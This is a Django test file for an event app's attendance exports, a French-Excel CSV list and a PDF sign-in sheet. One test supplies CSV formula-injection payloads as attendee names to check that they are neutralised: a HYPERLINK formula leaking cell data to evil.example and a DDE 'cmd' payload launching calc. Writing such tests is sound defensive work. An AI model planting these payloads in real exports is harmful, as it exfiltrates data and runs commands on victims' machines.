"""Attendance exports: the CSV list (Excel in French, no formulas) and the PDF sign-in sheet."""

import csv
import io

import pypdf
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from conciergerie.core.permissions import Level
from conciergerie.events import services
from conciergerie.events.exports import CSV_COLUMNS, WALK_IN_ROWS
from tests.conftest import login
from tests.events.conftest import SOON, make_event, visitor
from tests.factories import make_place


def url(name, event):
    return reverse(f"events_reports:{name}", args=[event.place.slug, event.uuid])


def read_csv(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = response.content
    assert raw.startswith("\ufeff".encode())  # the BOM French Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def pdf_text(content):
    reader = pypdf.PdfReader(io.BytesIO(content))
    return "\n".join(page.extract_text() for page in reader.pages), len(reader.pages)


def test_csv_lists_confirmed_attendees_sorted_by_name(client, event, tiers, concierge):
    zoe = visitor(
        event,
        name="Zoé Arnaud",
        email="zoe@example.org",
        attendees=[{"tier": tiers["prix libre"], "amount": "8"}],
    )
    visitor(
        event,
        name="émile Dupont",
        email="emile@example.org",
        attendees=[{"tier": tiers["standard"]}, {"tier": tiers["standard"], "name": "Anna"}],
    )
    gone = visitor(
        event, name="Parti", email="parti@example.org", attendees=[{"tier": tiers["standard"]}]
    )
    services.registration_cancel(registration=gone, by=None, level=Level.CONCIERGE)
    ticket = services.ticket_check_in(ticket=zoe.tickets.get(), by=None)
    login(client, concierge)
    response = client.get(url("attendance_csv", event))
    assert response.status_code == 200
    assert 'filename="emargement-atelier-soudure-' in response["Content-Disposition"]
    rows = read_csv(response)
    assert rows[0] == list(CSV_COLUMNS)
    assert [r[0] for r in rows[1:]] == ["Anna", "émile Dupont", "Zoé Arnaud"]
    zoe_row = rows[3]
    arrived = ticket.checked_in_at.astimezone(event.zone())
    assert zoe_row == [
        "Zoé Arnaud",
        "zoe@example.org",
        "prix libre",
        "8,00",
        f"{zoe.confirmed_at.astimezone(event.zone()):%d/%m/%Y}",
        f"{arrived:%d/%m/%Y %H:%M}",
        str(ticket.uuid),
    ]
    assert rows[1][1] == "" and rows[1][5] == ""  # a companion without e-mail, not arrived
    assert "Parti" not in response.content.decode("utf-8-sig")


def test_csv_neutralises_formulas(client, event, tiers, concierge):
    visitor(
        event,
        name='=HYPERLINK("http://evil.example/?x="&A1;"clic")',
        email="a@example.org",
        attendees=[{"tier": tiers["standard"]}, {"tier": tiers["standard"], "name": "@SUM(A1)"}],
    )
    visitor(
        event,
        name="+cmd|' /C calc'!A0",
        email="b@example.org",
        attendees=[{"tier": tiers["soutien"]}],
    )
    login(client, concierge)
    names = sorted(r[0] for r in read_csv(client.get(url("attendance_csv", event)))[1:])
    assert names == [
        "'+cmd|' /C calc'!A0",
        '\'=HYPERLINK("http://evil.example/?x="&A1;"clic")',
        "'@SUM(A1)",
    ]


def test_csv_query_count_is_flat(client, place, concierge):
    login(client, concierge)

    def queries(n):
        event = make_event(place, title=f"Atelier {n}", capacity=30)
        for i in range(n):
            visitor(event, name=f"P{i}", email=f"p{i}-{n}@example.org")
        with CaptureQueriesContext(connection) as ctx:
            response = client.get(url("attendance_csv", event))
        assert len(read_csv(response)) == n + 1
        return len(ctx)

    assert queries(1) == queries(20)


def test_csv_of_another_place_is_404(client, concierge):
    other = make_event(make_place(slug="ailleurs", name="Ailleurs"))
    login(client, concierge)
    path = reverse("events_reports:attendance_csv", args=["moulin", other.uuid])
    assert client.get(path).status_code == 404


def test_signin_sheet_is_a_pdf_with_every_confirmed_attendee(client, place, concierge):
    from conciergerie.spaces import services as spaces

    room = spaces.resource_create(place=place, by=None, name="Grande salle", horizon_days=3650)
    event = make_event(place, title="Repair café", resource=room, capacity=60)
    for i in range(40):  # enough for a second page
        visitor(event, name=f"Personne {i:02d}", email=f"p{i}@example.org")
    visitor(event, name="Zoé Ündé", email="zoe@example.org")
    gone = visitor(event, name="Parti Avant", email="parti@example.org")
    services.registration_cancel(registration=gone, by=None, level=Level.CONCIERGE)
    login(client, concierge)
    response = client.get(url("signin_sheet", event))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    text, pages = pdf_text(response.content)
    assert pages >= 2
    assert "Feuille d" in text and "Repair café" in text
    assert "Le Moulin" in text and "Grande salle" in text
    assert f"{SOON:%Y}" in text
    assert "Personne 00" in text and "Personne 39" in text and "Zoé Ündé" in text
    assert "Parti Avant" not in text
    assert f"Page 1 / {pages}" in text
    # Numbered rows: 41 attendees, then the blank lines for walk-ins.
    assert str(41 + WALK_IN_ROWS) in text
    assert text.index("Personne 39") < text.index("Zoé Ündé")


def test_signin_sheet_of_an_empty_event_has_blank_rows(client, event, concierge):
    login(client, concierge)
    response = client.get(url("signin_sheet", event))
    assert response.status_code == 200
    text, pages = pdf_text(response.content)
    assert pages == 1 and "0 personne" in text
